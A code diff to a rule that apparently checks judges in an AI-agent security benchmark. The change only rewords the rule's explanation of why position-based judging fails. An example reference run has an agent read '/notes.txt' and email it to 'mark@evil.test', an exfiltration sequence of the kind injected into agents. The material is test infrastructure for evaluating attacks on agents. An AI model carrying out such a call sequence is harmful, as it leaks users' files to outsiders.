@@ -36,7 +36,7 @@ export default defineRule({
       reference: "[call('read_file', { path: '/notes.txt' }), call('send_email', { to: 'mark@evil.test', subject: 'Notes', body: 'see attached' })]",
     },
     witness:
-      'Where the reference makes fewer calls than the position the judge reads, the reference run itself: the action is done, at another position, and the judge fails it. Otherwise the reference run with a call that reads and changes nothing (`read_email` listing the inbox) made before the call at that position: the same actions, one call later, which a right judge still passes and this one fails.',
+      'Where the reference makes fewer calls than the position the judge reads, the reference run itself: the action is done, at another position, and the judge fails it. Otherwise the reference run with a call that reads and changes nothing (`read_email` listing the inbox) made before the call at that position (after it, where the position is counted from the end): the same actions, one call later, which a right judge still passes and this one fails.',
   },
   defaultOptions: {},
   check({ facts, task, types, report }) {
